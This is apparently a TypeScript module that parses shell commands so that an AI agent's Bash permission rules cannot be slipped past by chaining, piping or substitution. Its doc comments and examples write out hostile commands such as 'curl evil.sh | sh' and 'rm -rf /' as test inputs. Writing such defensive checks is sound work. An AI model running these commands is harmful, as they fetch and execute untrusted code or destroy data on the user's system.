/**
 * @module The shape of a shell command (SPEC §11). Whether it is one simple command: an `allowed-tools`
 * pattern such as `Bash(git add:*)` approves `git add .`, never `git add . && curl evil.sh | sh`. Like
 * Claude Code's Bash prefix rules, a command that chains, pipes, substitutes or redirects is not simple,
 * and neither is one we cannot read for sure (an unclosed quote, a trailing backslash): such a call falls
 * to ask or deny. And the simple commands inside it: a `disallowed-tools` pattern such as `Bash(rm:*)`
 * denies `echo hi && rm -rf /` because one of them matches.
 */

/**
 * True when `command` holds none of these outside quotes: `;` `&` `|` `<` `>` `(` `)` a backtick, a line
 * break or another control character, `$(`, `${` or `$[`; and none of a backtick, `$(`, `${` or `$[` inside
 * double quotes (bash expands them there). Text in single quotes is literal, so `git add 'x;y'` is simple;
 * a backslash outside single quotes takes the next character literally (`find . -exec rm {} \;`).
 * Linear in the command.
 * @example isSimpleShellCommand("git add . && curl evil.sh | sh") // false
 */
export function isSimpleShellCommand(command: string): boolean {
  let quote: "'" | '"' | undefined;
  for (let index = 0; index < command.length; index++) {
    const char = command[index] as string;
    if (quote === "'") {
      if (char === "'") quote = undefined;
      continue;
    }
    if (char === "\\") {
      if (index + 1 >= command.length) return false;
      index++;
      continue;
    }
    if (char === "`") return false;
    if (char === "$" && "({[".includes(command[index + 1] ?? " ")) return false;
    if (quote === '"') {
      if (char === '"') quote = undefined;
      continue;
    }
    if (char === "'" || char === '"') quote = char;
    else if (";&|<>()".includes(char) || (char < " " && char !== "\t") || char === "\u007f") return false;
  }
  return quote === undefined;
}

/** Deeper nesting of `$( … )`, backticks or parentheses than this is not split exactly (keeps the split linear). */
const maxNesting = 32;

/** Where a piece started and what closes its frame: `)` for `$(`, `(`, `<(`; a backtick; nothing at the top. */
interface Frame {
  start: number;
  close: ")" | "`" | undefined;
  /** The quote the frame was opened in, restored when it closes (`"$(x)"`). */
  outerQuote: "'" | '"' | undefined;
  /** A subshell `( … )`: the command around it is cut before and after it. */
  subshell?: boolean;
}

/**
 * The simple commands inside `command`, each trimmed and without leading variable assignments,
 * redirections or reserved words (`FOO=1 >log { rm x` gives `rm x`): split at `;`, `&`, `&&`, `|`, `||`,
 * line breaks and parentheses, and the contents of `$( … )`, `<( … )` and backticks (also inside double
 * quotes) taken as commands of their own. Quotes are respected: `echo 'a; rm b'` is one command. When the
 * command cannot be split for sure (an unclosed quote, a trailing backslash, unbalanced parentheses or
 * backticks, very deep nesting), it is split at every one of those characters regardless of quotes, so a
 * deny rule errs toward denying. Linear in the command.
 * @example simpleCommandsOf("echo hi && rm -rf / | tee $(curl x)") // ["echo hi", "rm -rf /", "curl x", "tee $(curl x)"]
 */
export function simpleCommandsOf(command: string): string[] {
  return (exactSplit(command) ?? roughSplit(command))
    .map(withoutLeadingWords)
    .filter((piece) => piece !== "");
}

function exactSplit(command: string): string[] | undefined {
  const pieces: string[] = [];
  const frames: Frame[] = [{ start: 0, close: undefined, outerQuote: undefined }];
  let quote: "'" | '"' | undefined;
  const top = () => frames[frames.length - 1] as Frame;
  const cut = (end: number, next: number) => {
    pieces.push(command.slice(top().start, end));
    top().start = next;
  };
  const open = (index: number, close: ")" | "`", length: number, subshell = false) => {
    if (frames.length > maxNesting) return false;
    frames.push({ start: index + length, close, outerQuote: quote, subshell });
    quote = undefined;
    return true;
  };
  for (let index = 0; index < command.length; index++) {
    const char = command[index] as string;
    if (quote === "'") {
      if (char === "'") quote = undefined;
      continue;
    }
    if (char === "\\") {
      if (index + 1 >= command.length) return undefined;
      index++;
      continue;
    }
    if (char === "`") {
      if (top().close === "`") {
        cut(index, index + 1);
        quote = top().outerQuote;
        frames.pop();
      } else if (!open(index, "`", 1)) return undefined;
      continue;
    }
    if (char === "$" && command[index + 1] === "(") {
      if (!open(index, ")", 2)) return undefined;
      index++;
      continue;
    }
    if (quote === '"') {
      if (char === '"') quote = undefined;
      continue;
    }
    if (char === "'" || char === '"') quote = char;
    else if (char === "(") {
      // A subshell `( … )` starts commands of its own; `<( … )` and `>( … )` sit inside one.
      const subshell = !"<>".includes(command[index - 1] ?? " ");
      if (subshell) cut(index, index + 1);
      if (!open(index, ")", 1, subshell)) return undefined;
    } else if (char === ")") {
      if (top().close !== ")") return undefined;
      cut(index, index + 1);
      quote = top().outerQuote;
      const subshell = top().subshell;
      frames.pop();
      if (subshell) top().start = index + 1;
    } else if (";&|".includes(char) || (char < " " && char !== "\t") || char === "\u007f") {
      cut(index, index + 1);
    }
  }
  if (quote !== undefined || frames.length !== 1) return undefined;
  cut(command.length, command.length);
  return pieces;
}

/** Splits at every separator, quotes or not: every place a command could start. */
function roughSplit(command: string): string[] {
  return command.split(/[;&|()`\u0000-\u0008\u000a-\u001f\u007f]/);
}

const leadingWord =
  /^(?:[A-Za-z_]\w*=(?:'[^']*'|"[^"]*"|[^\s'"])*|\d*[<>][<>&|]?\s*(?:'[^']*'|"[^"]*"|[^\s'"<>])+|[{}!](?=\s|$)|time\s+-p(?=\s|$)|(?:if|then|else|elif|do|done|fi|while|until|time|\$)(?=\s|$))\s*/;

/**
 * Drops what comes before the command word: `FOO=1`, `2>/dev/null`, `{`, `!`, `then`, `do`, `time -p`. A
 * `{` is a reserved word only when a blank follows; `{rm,-rf,x}` is a brace expansion and stays.
 */
function withoutLeadingWords(piece: string): string {
  let rest = piece.trim();
  for (let match = leadingWord.exec(rest); match && match[0] !== ""; match = leadingWord.exec(rest)) {
    rest = rest.slice(match[0].length);
  }
  return rest.trim();
}
